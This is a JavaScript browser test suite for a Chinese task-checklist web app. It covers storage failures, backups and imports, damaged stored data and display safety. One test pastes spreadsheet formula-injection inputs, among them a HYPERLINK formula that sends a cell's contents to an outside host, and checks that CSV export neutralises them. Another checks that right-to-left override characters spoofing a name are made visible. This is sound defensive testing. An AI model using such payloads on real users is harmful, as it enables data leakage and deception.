// Storage and exports under hostile conditions (issue 17): each test is the fault made
// real in Chromium, then what a user does, and what must hold: nothing entered is lost
// without a word, and nothing is said to be saved that was not.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import fs from "node:fs/promises";
import { browserAndServer } from "./harness.mjs";
import { parseCsv } from "./app_page.mjs";
import { DOC_PREFIX, withContext } from "./checklist_page.mjs";

// Tasks of seed 003, the first-visit sample.
const A = "地区生产总值增长7%左右";
const B = "一般公共预算收入增长6.5%";
const C = "生态环境质量进一步好转";
const D = "加强审计监督和审计结果运用";
const E = "加强重大项目谋划生成和落地推进";

const env = browserAndServer();
const inContext = (fn, options) => withContext(env, fn, options);

/**
 * Makes `localStorage.getItem` throw, in every page of `context` from its next load, for
 * the keys `failing(key)` accepts, until `allowReads(page)` (the tab's sessionStorage
 * keeps that choice across reloads). As a browser policy, an extension or a damaged
 * profile can make it.
 */
async function failReads(context, failing) {
  await context.addInitScript((test) => {
    const get = Storage.prototype.getItem;
    const failing = new Function("key", `return (${test})(key)`);
    Storage.prototype.getItem = function (key) {
      if (this === window.localStorage && get.call(sessionStorage, "reads") !== "allowed" && failing(key)) {
        throw new DOMException("读取被浏览器策略阻止", "SecurityError");
      }
      return get.call(this, key);
    };
  }, failing.toString());
}

/** What localStorage holds, each value by its length and a hash (short to compare). */
async function storedDigest(app) {
  const hash = (v) => `${v.length}:${createHash("sha256").update(v).digest("hex").slice(0, 16)}`;
  return Object.fromEntries(Object.entries(await app.stored()).map(([k, v]) => [k, hash(v)]).sort());
}

const allowReads = (page) => page.evaluate(() => sessionStorage.setItem("reads", "allowed"));

/** Marks, notes and a unit of mine, saved; the stored values. */
async function someSavedWork(app) {
  for (const t of [A, B, C, D]) await app.markDone(t);
  await app.writeNote(A, "甲的备注");
  await app.writeNote(B, "乙的备注");
  await app.showView("按单位");
  await app.page.getByTestId("unit-table").first().getByRole("button", { name: "我的单位：市财政局", exact: true }).click();
  await app.showView("大纲");
  await app.page.waitForFunction(
    () => Object.values(localStorage).some((v) => v.includes("乙的备注")) && Object.values(localStorage).some((v) => v.includes("市财政局")),
  );
  return storedDigest(app);
}

/** The user's data as read back by a page: done marks of A–E, notes of A and B, my unit. */
async function whatIsShown(app) {
  const done = [];
  for (const t of [A, B, C, D, E]) if (await app.isDone(t)) done.push(t);
  await app.showView("按单位");
  const unit = await app.page.getByTestId("unit-table").first().getByRole("button", { name: "我的单位：市财政局", exact: true }).getAttribute("aria-pressed");
  await app.showView("大纲");
  return { done, notes: [await app.note(A), await app.note(B)], myUnit: unit === "true" };
}

test("a storage that throws on read: nothing is written, the page says why and offers the backup, and saves once reads work", async () => {
  await inContext(
    async (open, context) => {
      const app = await open();
      const before = await someSavedWork(app);
      await failReads(context, () => true);
      await app.page.reload();
      await app.task(A).waitFor();
      // The user carries on: a tick and a note. Nothing may be written over what is stored.
      await app.writeNote(C, "只读时写的备注");
      await app.markDone(E);
      await app.page.evaluate(() => window.dispatchEvent(new Event("pagehide")));
      assert.deepEqual(await storedDigest(app), before, "the stored data is untouched");
      // The page says what happened, names the cause, and offers the backup of what it holds.
      await app.alert.waitFor();
      const text = await app.alert.innerText();
      assert.match(text, /无法读取本页已保存的数据/);
      assert.match(text, /SecurityError/, "the cause is named");
      assert.match(text, /暂时不保存任何修改/);
      const [download] = await Promise.all([app.page.waitForEvent("download"), app.alert.getByTestId("export-backup").click()]);
      const backup = JSON.parse(await fs.readFile(await download.path(), "utf8"));
      assert.match(JSON.stringify(backup.docs), /只读时写的备注/, "the backup holds what the page holds");
      // Reads work again: the next change merges what is stored with what the page holds.
      await allowReads(app.page);
      await app.markDone(E, false);
      await app.markDone(E);
      await app.alert.getByText("又能读取已保存的数据").waitFor();
      await app.page.reload();
      await app.task(A).waitFor();
      assert.deepEqual(await whatIsShown(app), { done: [A, B, C, D, E], notes: ["甲的备注", "乙的备注"], myUnit: true });
      assert.equal(await app.note(C), "只读时写的备注");
    },
    { contextOptions: { acceptDownloads: true } },
  );
});

test("one stored value that throws on read: the rest is shown, nothing is written, and its marks come back", async () => {
  await inContext(async (open, context) => {
    const app = await open();
    const before = await someSavedWork(app);
    const marksKey = Object.keys(before).find((k) => k.startsWith(DOC_PREFIX));
    assert.ok(marksKey);
    await failReads(context, (key) => key.startsWith("duban.v2.doc."));
    await app.page.reload();
    // The document and my unit (readable) are there; its marks (unreadable) are not.
    await app.task(A).waitFor();
    await app.markDone(E);
    assert.deepEqual(await storedDigest(app), before, "the stored data is untouched");
    await app.alert.waitFor();
    assert.match(await app.alert.innerText(), /读取文档《2021年政府工作报告目标任务责任分解》的完成标记和备注时出错/);
    await allowReads(app.page);
    await app.markDone(E, false);
    await app.markDone(E);
    await app.page.waitForFunction(
      ([k, n]) => (localStorage.getItem(k)?.match(/"done":\[true/g) ?? []).length === n,
      [marksKey, 5],
    );
    await app.page.reload();
    await app.task(A).waitFor();
    assert.deepEqual(await whatIsShown(app), { done: [A, B, C, D, E], notes: ["甲的备注", "乙的备注"], myUnit: true });
  });
});

const DOC_003 = "2021年政府工作报告目标任务责任分解";

test("storage nearly full: a long note that does not fit is named as not saved, and the ticks after it are kept", async () => {
  await inContext(async (open) => {
    const app = await open();
    await app.markDone(A);
    await app.waitForSavedMarks(1);
    await app.fillStorage({ leave: 4000 });
    await app.writeNote(B, "长".repeat(60000));
    for (const t of [C, D, E]) await app.markDone(t);
    await app.alert.waitFor();
    const text = await app.alert.innerText();
    assert.doesNotMatch(text, /仍会保存/, "nothing is promised that is not kept");
    assert.match(text, new RegExp(`没有保存：文档《${DOC_003}》中 1 条较长的备注。没有列出的修改都已保存`));
    await app.waitForSavedMarks(4);
    await app.page.reload();
    await app.task(A).waitFor();
    const done = [];
    for (const t of [A, B, C, D, E]) if (await app.isDone(t)) done.push(t);
    assert.deepEqual(done, [A, C, D, E]);
    assert.equal(await app.note(B), "", "the note that was said not to be saved is not");
  });
});

test("storage full: the page warns on opening, and a tick it cannot save is said not to be saved", async () => {
  await inContext(async (open) => {
    const app = await open();
    await app.markDone(A);
    await app.waitForSavedMarks(1);
    const marks = await app.storedMarks();
    await app.fillStorage();
    await app.page.reload();
    await app.task(A).waitFor();
    await app.alert.waitFor();
    assert.match(await app.alert.innerText(), /存储空间已满，现在做的修改.*都无法保存/s);
    await app.alert.getByRole("button", { name: "知道了" }).click();
    await app.markDone(B);
    await app.alert.waitFor();
    const text = await app.alert.innerText();
    assert.match(text, new RegExp(`没有保存：文档《${DOC_003}》的完成标记、期限和备注。`));
    assert.doesNotMatch(text, /仍会保存/);
    assert.deepEqual(await app.storedMarks(), marks, "the marks stored before are untouched");
  });
});

test("a site whose storage is mostly other data: the meter shows both from the start, and the page warns", async () => {
  await inContext(async (open) => {
    const app = await open();
    await app.page.evaluate(() => localStorage.setItem("other.app", "x".repeat(4_500_000)));
    await app.page.reload();
    await app.task(A).waitFor();
    await app.alert.waitFor();
    assert.match(await app.alert.innerText(), /本机存储已用约 86%（本应用 1 KB，本网站的其他数据 4\.3 MB，上限约 5 MB）/);
    await app.openLibrary();
    assert.match(await app.page.getByTestId("storage-meter").innerText(), /本应用 1 KB，本网站共用 4\.3 MB \/ 约 5 MB/);
  });
});

/** The backup the page exports now, parsed. */
async function exportBackup(app) {
  await app.openLibrary();
  const [download] = await Promise.all([app.page.waitForEvent("download"), app.library.getByTestId("export-backup").click()]);
  return JSON.parse(await fs.readFile(await download.path(), "utf8"));
}

async function importBackup(app, backup, mode) {
  await app.openLibrary();
  await app.library.getByTestId(mode === "replace" ? "import-replace" : "import-merge").check();
  await app.library.getByTestId("import-backup").setInputFiles({
    name: "备份.json",
    mimeType: "application/json",
    buffer: Buffer.from(JSON.stringify(backup)),
  });
}

test("a backup that does not fit: 替换 changes nothing and says so; 合并 says what it could not save", async () => {
  await inContext(
    async (open) => {
      const app = await open();
      await app.markDone(A);
      // A valid backup from this moment, with one more document whose text is 1 MB.
      const backup = await exportBackup(app);
      const big = "d00000000000000b1";
      const at = Date.now();
      backup.library.docs[big] = { title: "一份很大的文档", info_at: at, added_at: at };
      backup.sources[big] = ["一份很大的文档\n一、".concat("大".repeat(1_000_000)), at];
      // Since then: two more ticks here, and a second document with one.
      await app.markDone(B);
      await app.markDone(C);
      await app.chooseSample("000");
      await app.markDone("深化经济运行监测分析");
      await app.waitForSavedMarks(4);
      await app.fillStorage({ leave: 200_000 });
      const before = await storedDigest(app);
      await importBackup(app, backup, "replace");
      // The page answers, with a message or a notice.
      await app.alert.or(app.page.getByTestId("notice")).first().waitFor();
      assert.equal(await app.page.getByText("已用备份替换全部数据").count(), 0, "no success is reported");
      assert.deepEqual(await storedDigest(app), before, "storage is exactly as before");
      assert.match(await app.alert.innerText(), /这个备份放不下.*没有导入任何内容，现有数据没有任何改动/s);
      await app.page.reload();
      await app.task("深化经济运行监测分析").waitFor();
      assert.equal(await app.isDone("深化经济运行监测分析"), true);
      assert.deepEqual((await app.libraryNames()).sort(), [DOC_003, "2023年2月份市政府工作要点"].sort());
      await app.libraryDoc(DOC_003).getByRole("button", { name: "打开" }).click();
      await app.task(A).waitFor();
      for (const t of [A, B, C]) assert.equal(await app.isDone(t), true, t);
      // Merged instead: on the page, and the page says what storage could not take.
      await importBackup(app, backup, "merge");
      const notice = app.page.getByTestId("notice");
      await notice.getByText("已把备份合并到页面上").waitFor();
      assert.match(await notice.innerText(), /以下内容没有保存到浏览器：文档《一份很大的文档》的原文/);
      assert.deepEqual((await app.libraryNames()).sort(), [DOC_003, "2023年2月份市政府工作要点", "一份很大的文档"].sort());
      for (const t of [A, B, C]) assert.equal(await app.isDone(t), true, t);
    },
    { contextOptions: { acceptDownloads: true } },
  );
});

/** A document of `n` long tasks (about 330 chars each) under `title`. */
function longDocument(title, n) {
  const tasks = Array.from(
    { length: n },
    (_, i) => `${i + 1}. 推进第${i + 1}项重点工作，${"细化落实措施，明确时间节点，按月报送进展情况。".repeat(12)}\n责任单位：市发改局`,
  );
  return `${title}\n${tasks.join("\n")}\n`;
}

test("a document whose text did not fit stays in the library after a reload, as 原文未保存, and a paste of it brings it back", async () => {
  const title = "2024年重点工作任务清单（大）";
  const text = longDocument(title, 40);
  const [t1, t2, t3] = ["推进第1项重点工作", "推进第2项重点工作", "推进第3项重点工作"];
  await inContext(async (open) => {
    const app = await open();
    await app.markDone(A);
    await app.waitForSavedMarks(1);
    await app.fillStorage({ leave: 6000 });
    await app.paste(text);
    await app.task(t1).waitFor();
    for (const t of [t1, t2, t3]) await app.markDone(t);
    await app.alert.waitFor();
    const told = await app.alert.innerText();
    await app.waitForSavedMarks(4);
    await app.page.reload();
    await app.pasteArea.waitFor();
    assert.deepEqual((await app.libraryNames()).sort(), [DOC_003, title].sort(), "the document is still listed");
    assert.match(told, new RegExp(`没有保存：文档《${title.replace(/[()（）]/g, ".")}》的原文`));
    await app.libraryDoc(title).getByTestId("text-not-saved").waitFor();
    assert.match(await app.page.getByTestId("notice").innerText(), /原文没有保存在本浏览器中.*请重新粘贴这份文件的原文/s);
    // Space freed, the text pasted again: its marks are back, and now it is all stored.
    await app.page.evaluate(() => {
      for (const k of Object.keys(localStorage)) if (k.startsWith("filler.")) localStorage.removeItem(k);
    });
    await app.paste(text);
    await app.task(t1).waitFor();
    for (const t of [t1, t2, t3]) assert.equal(await app.isDone(t), true, t);
    await app.libraryDoc(title).getByTestId("text-not-saved").waitFor({ state: "detached" });
    await app.page.reload();
    await app.task(t1).waitFor();
    assert.equal(await app.isDone(t2), true);
    assert.equal(await app.libraryDoc(title).getByTestId("text-not-saved").count(), 0);
  });
});

test("a pasted task that a spreadsheet would run as a formula is exported to CSV as plain text", async () => {
  const text = '2024年测试清单\n一、=HYPERLINK("http://example.com/?d="&A1,"点击查看")\n责任单位：市发改局\n二、@SUM(1+1)推进工作\n配合单位：=1+2局\n三、+1+2 推进工作\n四、-2+3 推进工作\n';
  await inContext(
    async (open) => {
      const app = await open();
      await app.paste(text);
      await app.task("推进工作").waitFor();
      await app.writeNote("+1+2 推进工作", "=1+1");
      const [file] = await Promise.all([
        app.page.waitForEvent("download"),
        app.page.getByRole("button", { name: "导出 CSV", exact: true }).click(),
      ]);
      const records = parseCsv((await fs.readFile(await file.path())).subarray(3).toString("utf8")).slice(1);
      assert.deepEqual(
        records.map((r) => r[3]),
        ['\'=HYPERLINK("http://example.com/?d="&A1,"点击查看")', "'@SUM(1+1)推进工作", "'+1+2 推进工作", "'-2+3 推进工作"],
      );
      assert.equal(records[1][6], "'=1+2局");
      assert.equal(records[2][10], "'=1+1");
      assert.equal(records[0][5], "市发改局");
    },
    { contextOptions: { acceptDownloads: true } },
  );
});

test("a done mark stamped far in the future can be unticked, in both tabs and after a reload", async () => {
  await inContext(async (open) => {
    const one = await open();
    for (const t of [A, B, C, D]) await one.markDone(t);
    await one.waitForSavedMarks(4);
    // One of the stored ticks carries a stamp from the future (a clock set wrong on
    // another computer, a damaged value, a backup from such a computer).
    await one.page.evaluate((prefix) => {
      const key = Object.keys(localStorage).find((k) => k.startsWith(prefix));
      localStorage.setItem(key, localStorage.getItem(key).replace(/"done":\[true,\d+\]/, '"done":[true,1e308]'));
    }, DOC_PREFIX);
    await one.page.reload();
    await one.task(A).waitFor();
    const two = await open();
    for (const t of [A, B, C, D]) assert.equal(await two.isDone(t), true, t);
    for (const t of [A, B, C, D]) await one.markDone(t, false);
    const ticked = (app) =>
      app.page.evaluate(() => [...document.querySelectorAll('[data-testid="outline"] [data-testid="done"]')].filter((b) => b.checked).length);
    // Wait until the other tab shows none ticked (bounded: if it never does, the
    // assertion below says so).
    await two.page
      .waitForFunction(() => ![...document.querySelectorAll('[data-testid="outline"] [data-testid="done"]')].some((b) => b.checked), null, { timeout: 5000 })
      .catch(() => {});
    assert.equal(await ticked(two), 0, "the other tab shows all four unticked");
    assert.equal(await ticked(one), 0);
    for (const app of [one, two]) {
      await app.page.reload();
      await app.task(A).waitFor();
      assert.equal(await ticked(app), 0, "after a reload too");
    }
    assert.doesNotMatch(JSON.stringify(await one.storedMarks()), /e308/, "the stored stamp was brought back to now");
  });
});

test("a damaged field loses that field only: a number too large in the settings, wrong types in a library entry", async () => {
  await inContext(async (open) => {
    const app = await open();
    await app.markDone(A);
    await app.openLibrary();
    await app.libraryDoc(DOC_003).getByRole("button", { name: "重命名" }).click();
    await app.library.getByTestId("rename-input").fill("我的责任分解表");
    await app.library.getByTestId("rename-input").press("Enter");
    const key003 = await app.libraryDoc("我的责任分解表").getAttribute("data-key");
    await app.showView("按单位");
    const units = app.page.getByTestId("unit-table").first();
    for (const u of ["市财政局", "市审计局"]) await units.getByRole("button", { name: `我的单位：${u}`, exact: true }).click();
    await app.showView("大纲");
    // A second document, then 003 opened again: 003 is the document open last.
    await app.chooseSample("000");
    await app.markDone("深化经济运行监测分析");
    await app.libraryDoc("我的责任分解表").getByRole("button", { name: "打开" }).click();
    await app.task(A).waitFor();
    await app.page.waitForFunction((k) => (localStorage.getItem("duban.v2.prefs") ?? "").includes(`"current":["${k}"`), key003);
    // One stamp in the settings becomes 1e400; 003's entry gets a number for a title and
    // a string for the date it was added.
    await app.page.evaluate((k) => {
      const prefs = localStorage.getItem("duban.v2.prefs").replace(/"市财政局":\[true,\d+\]/, '"市财政局":[true,1e400]');
      localStorage.setItem("duban.v2.prefs", prefs);
      const library = JSON.parse(localStorage.getItem("duban.v2.library"));
      Object.assign(library.docs[k], { title: 12345, added_at: "2024-01-01" });
      localStorage.setItem("duban.v2.library", JSON.stringify(library));
    }, key003);
    await app.page.reload();
    await app.outline.locator('[data-testid="task"]').first().waitFor();
    assert.equal(await app.task(A).count(), 1, "the document open last is reopened: the settings' other fields are kept");
    await app.showView("按单位");
    const pressed = (u) =>
      app.page.getByTestId("unit-table").first().getByRole("button", { name: `我的单位：${u}`, exact: true }).getAttribute("aria-pressed");
    assert.equal(await pressed("市审计局"), "true", "the other unit of mine is kept");
    assert.equal(await pressed("市财政局"), "false", "the damaged one alone is lost");
    await app.showView("大纲");
    // The entry keeps its name; its title comes back from the text, its date is unknown.
    assert.deepEqual((await app.libraryNames()).sort(), ["2023年2月份市政府工作要点", "我的责任分解表"].sort());
    assert.match(await app.libraryDoc("我的责任分解表").innerText(), /日期不详/);
    const text = await app.alert.innerText();
    assert.match(text, /我的单位“市财政局”/, "the message says which field was lost");
    assert.match(text, /《我的责任分解表》的标题、《我的责任分解表》的加入日期/);
  });
});

test("a paste that joins 16,000 lines into one task: its row shows the first 1,000 chars, 展开 shows all, the page stays responsive", async () => {
  const text = `一、推进工作\n${"（\n".repeat(16000)}责任单位：市发改局\n`;
  await inContext(async (open) => {
    const app = await open();
    // Every main-thread task of 50 ms or more, from here on.
    await app.page.evaluate(() => {
      window.longTasks = [];
      new PerformanceObserver((list) => window.longTasks.push(...list.getEntries().map((e) => e.duration))).observe({ type: "longtask" });
    });
    const longest = () => app.page.evaluate(() => Math.max(0, ...window.longTasks));
    const nextFrame = () => app.page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
    // Pasted as a user does (Ctrl+V; the page parses on paste): typing it in would
    // take Chromium minutes by itself.
    await app.page.evaluate((t) => navigator.clipboard.writeText(t), text);
    await app.pasteArea.evaluate((el) => {
      el.value = "";
      el.focus();
    });
    await app.page.keyboard.press("Control+V");
    const row = app.task("推进工作");
    await row.waitFor();
    await nextFrame();
    const shown = await row.locator(".node-head .text").innerText();
    assert.ok(shown.length < 1100, `the row shows ${shown.length} chars`);
    assert.match(shown, /^推进工作（+…展开（共 16004 字，只显示了前 1000 字）$/);
    // Unfolded: all of it, in pieces the line breaker can cut.
    await row.getByTestId("fold-text").click();
    await row.getByTestId("fold-text").getByText("收起").waitFor();
    await nextFrame();
    const all = await row.locator(".node-head .text").evaluate((el) => el.textContent.replace("收起", ""));
    assert.equal(all, `推进工作${"（".repeat(16000)}`);
    assert.ok((await row.locator(".node-head .text wbr").count()) >= 160);
    // The unit page lists it folded too.
    await app.showView("按单位");
    await app.page.getByTestId("unit-table").first().getByRole("button", { name: "市发改局", exact: true }).click();
    const item = app.page.locator('[data-testid="task"]').filter({ hasText: "推进工作" }).first();
    await item.waitFor();
    assert.ok((await item.locator(".node-head .text").innerText()).length < 1100);
    await nextFrame();
    assert.ok((await longest()) < 2000, `longest main-thread task ${await longest()} ms`);
  }, { contextOptions: { permissions: ["clipboard-read", "clipboard-write"] } });
});

test("direction-override characters in a paste are shown as visible marks, not obeyed", async () => {
  // 市 + RLO + 局展发 + PDF: obeyed, it displays as 市发展局.
  const unit = "市\u202E局展发\u202C";
  const text = `2024年测试清单\n一、推进${unit}工作\n责任单位：${unit}、市财政局\n`;
  await inContext(async (open) => {
    const app = await open();
    await app.paste(text);
    const row = app.task("工作");
    await row.waitFor();
    const rowText = await row.innerText();
    assert.ok(![...rowText].some((c) => /[\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/.test(c)), "no control reaches the page");
    assert.match(rowText, /推进市⟦U\+202E⟧局展发⟦U\+202C⟧工作/);
    assert.match(rowText, /牵头单位：\s*市⟦U\+202E⟧局展发⟦U\+202C⟧/);
    await app.showView("按单位");
    assert.match(await app.page.getByTestId("unit-table").first().innerText(), /市⟦U\+202E⟧局展发⟦U\+202C⟧/);
    // The filter still finds the unit: only what is shown changes, not the text.
    await app.page.getByTestId("unit-table").first().getByRole("button", { name: "市⟦U+202E⟧局展发⟦U+202C⟧", exact: true }).click();
    await app.page.locator('[data-testid="task"]').filter({ hasText: "推进" }).first().waitFor();
  });
});
